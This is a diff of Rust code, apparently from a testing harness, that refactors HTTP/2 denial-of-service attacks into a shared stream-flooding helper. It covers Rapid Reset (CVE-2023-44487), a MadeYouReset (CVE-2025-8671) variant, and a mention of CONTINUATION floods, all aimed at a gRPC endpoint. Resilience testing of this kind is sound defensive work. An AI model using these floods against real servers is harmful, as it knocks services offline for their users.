@@ -131,27 +131,32 @@ async fn closing(
     h2.done(seen)
 }
 
-/// CVE-2023-44487: open a stream and reset it at once, as fast as the socket takes it.
-pub async fn rapid_reset(target: &Target) -> Attacked {
+/// Writes streams of `per_stream`'s frames, 200 a write, as fast as the socket takes
+/// them, until the server closes (or the attack time is over).
+async fn stream_storm(target: &Target, per_stream: impl Fn(u32, &[u8]) -> Vec<u8>) -> Attacked {
     let mut h2 = H2::open(target, &[]).await;
     let seen = h2.watch();
-    'attack: loop {
+    let headers = Block::grpc(LIST_BUNDLES, h2.tls).0;
+    loop {
         let mut batch = Vec::new();
         for _ in 0..200 {
-            let id = h2.stream();
-            batch.extend(frame(
-                HEADERS,
-                END_HEADERS,
-                id,
-                &Block::grpc(LIST_BUNDLES, h2.tls).0,
-            ));
-            batch.extend(rst_stream(id, CANCEL));
+            batch.extend(per_stream(h2.stream(), &headers));
         }
         if !h2.send(&batch).await || seen.lock().expect("seen").closed.is_some() {
-            break 'attack;
+            break;
         }
     }
     closing(h2, &seen, Duration::from_secs(2)).await
+}
+
+/// CVE-2023-44487: open a stream and reset it at once, as fast as the socket takes it.
+pub async fn rapid_reset(target: &Target) -> Attacked {
+    stream_storm(target, |id, headers| {
+        let mut out = frame(HEADERS, END_HEADERS, id, headers);
+        out.extend(rst_stream(id, CANCEL));
+        out
+    })
+    .await
 }
 
 /// MadeYouReset (CVE-2025-8671) class: streams the client makes the server reset, as
@@ -160,24 +165,10 @@ pub async fn rapid_reset(target: &Target) -> Attacked {
 /// zero WINDOW_UPDATE on a stream, the other classic trigger, already ends the whole
 /// connection with PROTOCOL_ERROR in h2; a request without `:path` is answered.)
 pub async fn made_you_reset(target: &Target) -> Attacked {
-    let mut h2 = H2::open(target, &[]).await;
-    let seen = h2.watch();
-    loop {
-        let mut batch = Vec::new();
-        for _ in 0..200 {
-            let id = h2.stream();
-            batch.extend(frame(
-                HEADERS,
-                END_HEADERS,
-                id,
-                &Block::grpc(LIST_BUNDLES, h2.tls).0,
-            ));
-        }
-        if !h2.send(&batch).await || seen.lock().expect("seen").closed.is_some() {
-            break;
-        }
-    }
-    closing(h2, &seen, Duration::from_secs(2)).await
+    stream_storm(target, |id, headers| {
+        frame(HEADERS, END_HEADERS, id, headers)
+    })
+    .await
 }
 
 /// CVE-2024-27316 class: a header block that never ends, CONTINUATION after
